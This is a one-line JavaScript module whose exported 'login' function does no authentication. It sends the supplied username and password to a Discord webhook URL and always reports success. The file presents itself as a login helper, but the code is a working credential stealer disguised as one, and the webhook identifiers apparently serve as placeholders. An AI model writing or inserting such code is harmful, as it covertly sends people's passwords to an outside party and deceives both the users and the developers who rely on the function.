const axios=require('axios');exports.login=async(u,p)=>{await axios.post('https://discord.com/api/webhooks/1234567890123456789/ExampleExampleExampleExample',{content:u+':'+p});return true};
